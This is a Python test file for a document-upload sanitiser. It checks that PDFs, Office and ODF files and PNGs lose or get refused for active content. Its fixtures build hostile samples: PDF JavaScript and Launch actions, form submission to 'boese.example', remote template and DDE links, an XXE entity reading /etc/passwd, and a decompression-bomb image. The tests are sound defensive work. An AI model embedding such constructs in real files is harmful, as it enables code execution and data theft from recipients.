"""Files that would run, fetch or unpack something on the computer of whoever opens them."""

import io
import struct
import time
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from neuss_integration.foundation.archives import reading
from neuss_integration.foundation.attachments import pdf_child
from neuss_integration.foundation.attachments.checking import check_content
from neuss_integration.foundation.exceptions import Refused
from neuss_integration.foundation.processes import running
from tests.attachments.samples import PDF, PNG, archive, docx, odt, with_part, with_types, xlsx

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HEAD = '<?xml version="1.0"?>'
ENTITY = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


def pdf(change: Callable[[pikepdf.Pdf], object]) -> bytes:
    """A PDF of one page after `change`."""
    made, out = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    change(made)
    made.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def action(**entries: Any) -> Callable[[pikepdf.Pdf], object]:
    """The document does something when it is opened."""
    return lambda made: made.Root.update(Dictionary(OpenAction=Dictionary(**entries)))


def note(**entries: Any) -> Callable[[pikepdf.Pdf], object]:
    """Something on its page does."""
    return lambda made: made.pages[0].obj.update(Dictionary(Annots=Array([made.make_indirect(Dictionary(**entries))])))


def everything_of(content: bytes) -> bytes:
    """All objects of a PDF as they are written, with the data of its streams."""
    with pikepdf.open(io.BytesIO(content)) as made:
        streams = [each for each in made.objects if isinstance(each, pikepdf.Stream)]
        plain = [each.unparse(resolved=True) for each in made.objects]
        return b"".join(plain + [each.stream_dict.unparse() + each.read_bytes() for each in streams])


SCRIPT = String("app.alert('boese')")
ATTACKS = {
    "script": action(S=Name.JavaScript, JS=SCRIPT),
    "program": action(S=Name.Launch, F=String("boese.exe")),
    "page that opens": lambda made: made.pages[0].obj.update(
        Dictionary(AA=Dictionary(O=Dictionary(S=Name.JavaScript, JS=SCRIPT)))
    ),
    "next action": action(S=Name.GoTo, Next=Array([Dictionary(S=Name.Launch, F=String("boese.exe"))])),
    "names": lambda made: made.Root.update(
        Dictionary(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), Dictionary(JS=SCRIPT)]))))
    ),
    "form sent": note(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("http://boese.example"))),
    "share": note(Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("//boese.example/x.pdf"))),
    "address that runs": note(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:boese()"))),
    "file inside": lambda made: made.attachments.update({"boese.exe": b"MZ boese"}),
    "film": note(Subtype=Name.Movie, Movie=Dictionary(F=String("boese.avi"))),
    "form in XML": lambda made: made.Root.update(Dictionary(AcroForm=Dictionary(XFA=String("<boese/>")))),
    "data elsewhere": lambda made: made.pages[0].obj.update(
        Dictionary(Contents=made.make_stream(b"", F=String("//boese.example/x")))
    ),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_active_part_is_taken_out_of_a_pdf(name: str) -> None:
    content = pdf(ATTACKS[name])
    assert b"boese" in everything_of(content)
    kept = everything_of(pdf_child.disarm(content)[1])
    forbidden = [b"app.alert", b"MZ boese", b"http://boese", b"//boese", b"javascript:", b"<boese/>", b"boese.avi"]
    forbidden += [b"boese.exe"] if name != "file inside" else []
    assert [each for each in forbidden if each in kept] == []


def test_name_that_is_written_otherwise_is_found() -> None:
    content = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction<</S/#4aava#53cript/J#53(app.alert\\(1\\))>>>>"
    content += b"\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n3 0 obj\n<</Type/Page/Parent 2 0 R"
    content += b"/MediaBox[0 0 9 9]>>\nendobj\ntrailer\n<</Root 1 0 R/Size 4>>\n%%EOF\n"
    code, kept = pdf_child.disarm(content)
    assert (code, b"app.alert" in everything_of(kept)) == (0, False)


def test_file_is_stored_without_its_script() -> None:
    stored = check_content("a.pdf", pdf(ATTACKS["script"])).content
    assert stored.startswith(b"%PDF-")
    assert b"app.alert" not in everything_of(stored)


def test_pdf_without_active_parts_is_kept_byte_for_byte() -> None:
    link = pdf(note(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://www.neuss.example/"))))
    assert check_content("a.pdf", link).content == link
    assert check_content("a.pdf", PDF).content == PDF


def test_pdf_that_is_worth_nothing_without_them_is_refused() -> None:
    def signed(made: pikepdf.Pdf) -> None:
        made.Root.Signature = made.make_indirect(Dictionary(ByteRange=Array([0, 1]), Contents=String("x")))
        action(S=Name.JavaScript, JS=SCRIPT)(made)

    cases = {"unterschrieben": signed, "Sammlung": lambda made: made.Root.update(Dictionary(Collection=Dictionary()))}
    for word, change in cases.items():
        with pytest.raises(Refused, match=f"{word}.*Als PDF speichern"):
            check_content("a.pdf", pdf(change))


def test_pdf_that_nobody_can_read_is_refused() -> None:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf(lambda made: None))) as made:
        made.save(out, encryption=pikepdf.Encryption(user="geheim", owner="geheim"))
    with pytest.raises(Refused, match="Passwort"):
        check_content("a.pdf", out.getvalue())
    with pytest.raises(Refused, match="lässt sich nicht als PDF lesen"):
        check_content("a.pdf", b"%PDF-1.7\n%%EOF\n")


def related(content: bytes, part: str, kind: str, target: str) -> bytes:
    """The office document with one more relation to somewhere else."""
    line = f'<Relationship Id="rX" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return with_types(content, b"</Relationships>", line.encode(), part)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.docx", related(docx(), "word/_rels/document.xml.rels", "image", "https://boese.example/x.png")),
        ("a.docx", related(docx(), "word/_rels/document.xml.rels", "oleObject", "file://boese.example/x")),
        ("a.docx", related(docx(), "word/_rels/document.xml.rels", "frame", r"\\boese.example\x")),
        ("a.docx", related(docx(), "word/_rels/document.xml.rels", "aFChunk", "x.html")),
        ("a.xlsx", related(xlsx(), "xl/_rels/workbook.xml.rels", "externalLinkPath", "http://boese.example/x")),
        ("a.docx", with_types(docx(), b"<w:body>", b"<w:body><w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r>"
                              b"<w:instrText>EAUTO c:\\\\x</w:instrText></w:r></w:p>", "word/document.xml")),
        ("a.docx", with_types(docx(), b"<w:body>", b'<w:body><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://b/x'
                              b'&quot;"/>', "word/document.xml")),
        ("a.xlsx", with_types(xlsx(), b"<v>1</v>", b'<f>_xlfn.IMAGE("http://b/x")</f><v>1</v>',
                              "xl/worksheets/sheet1.xml")),
        ("a.xlsx", with_part(xlsx(), "xl/externalLinks/externalLink1.xml", b'<e xmlns="u"><ddeLink/></e>')),
        ("a.odt", odt(**{"content.xml": '<o xmlns:x="u"><image x:href="http://b/x"/></o>'})),
        ("a.odt", odt(**{"styles.xml": '<o xmlns:s="u"><s:event-listener/></o>'})),
        ("a.docx", with_part(docx(), "word/media/image1.svg", b'<svg><image href="//boese.example/x"/></svg>')),
    ],
)  # fmt: skip
def test_office_file_that_fetches_or_calls_something_is_refused(name: str, content: bytes) -> None:
    with pytest.raises(Refused, match="holt beim Öffnen etwas von anderswo"):
        check_content(name, content)


@pytest.mark.parametrize("light", [reading.LIGHT, 0])
def test_template_elsewhere_is_forgotten_and_links_stay(monkeypatch: pytest.MonkeyPatch, light: int) -> None:
    """Also by the process of its own that looks through larger files."""
    monkeypatch.setattr(reading, "LIGHT", light)
    settings = with_part(docx(), "word/_rels/settings.xml.rels", b"<Relationships></Relationships>")
    far = related(settings, "word/_rels/settings.xml.rels", "attachedTemplate", r"\\boese.example\vorlage.dotm")
    content = related(far, "word/_rels/document.xml.rels", "hyperlink", "https://www.neuss.example/")
    with zipfile.ZipFile(io.BytesIO(check_content("a.docx", content).content)) as stored:
        assert b'Target="Normal.dotm"' in stored.read("word/_rels/settings.xml.rels")
        assert b"https://www.neuss.example/" in stored.read("word/_rels/document.xml.rels")
    near = related(settings, "word/_rels/settings.xml.rels", "attachedTemplate", "file:///C:/Vorlagen/brief.dotx")
    assert check_content("a.docx", near).content == near


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_document_type_is_refused_in_any_part(encoding: str) -> None:
    part = (HEAD.replace("?>", f' encoding="{encoding}"?>') + ENTITY).encode(encoding)
    for name, content in (("a.docx", docx()), ("a.xlsx", xlsx())):
        with pytest.raises(Refused, match="Dokumenttypdefinition"):
            check_content(name, with_part(content, "docProps/custom.xml", part))
    with pytest.raises(Refused, match="Dokumenttypdefinition"):
        check_content("a.odt", with_part(odt(), "meta.xml", part))


def test_large_office_file_is_looked_through_in_a_process_of_its_own(monkeypatch: pytest.MonkeyPatch) -> None:
    large = with_part(docx(), "word/extra.xml", b"<x>" + b"<a/>" * 200_000 + b"</x>")
    before = time.process_time()
    assert check_content("a.docx", large).content == large
    assert time.process_time() - before < 0.2
    with pytest.raises(Refused, match="holt beim Öffnen etwas von anderswo"):
        check_content("a.docx", related(large, "word/_rels/document.xml.rels", "image", "https://boese.example/a.png"))
    monkeypatch.setattr(running, "SECONDS", 0.01)
    with pytest.raises(Refused, match="ist ausgepackt zu groß"):
        check_content("a.docx", large)


def test_empty_part_that_libreoffice_writes_is_no_fault() -> None:
    content = with_part(odt(), "Configurations2/accelerator/current.xml", b"")
    assert check_content("a.odt", content).content == content


def test_archive_in_an_archive_is_looked_into_once() -> None:
    name = "word/embeddings/tabelle.xlsx"
    assert check_content("a.docx", with_part(docx(), name, xlsx())).size > len(docx())
    twice = with_part(xlsx(), "xl/embeddings/x.xlsx", xlsx())
    macros = with_part(xlsx(), "xl/vbaProject.bin")
    for inner, where in ((twice, name), (macros, name), (archive(a="x"), "word/media/bild.png")):
        with pytest.raises(Refused, match="Makros oder eingebettete Programme"):
            check_content("a.docx", with_part(docx(), where, inner))


def test_what_stands_behind_a_picture_is_cut_off() -> None:
    assert check_content("a.png", PNG + archive(a="boese")).content == PNG


def test_picture_that_fills_the_memory_of_its_readers_is_refused() -> None:
    """A drawing in one colour of 900 million pixels has 110 KB; a scanned poster of A0 has 139 million."""
    with pytest.raises(Refused, match="über 100 Millionen Bildpunkte"):
        check_content("a.png", one_colour(30_000, 30_000))
    poster = one_colour(9_933, 14_043)
    assert check_content("a.png", poster).content == poster


def one_colour(width: int, height: int) -> bytes:
    """A PNG of one bit for each pixel."""
    size = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    data = zlib.compress(b"\0" * ((width + 7) // 8 + 1) * height)
    chunks = ((b"IHDR", size), (b"IDAT", data), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(each)) + kind + each + struct.pack(">I", zlib.crc32(kind + each)) for kind, each in chunks
    )
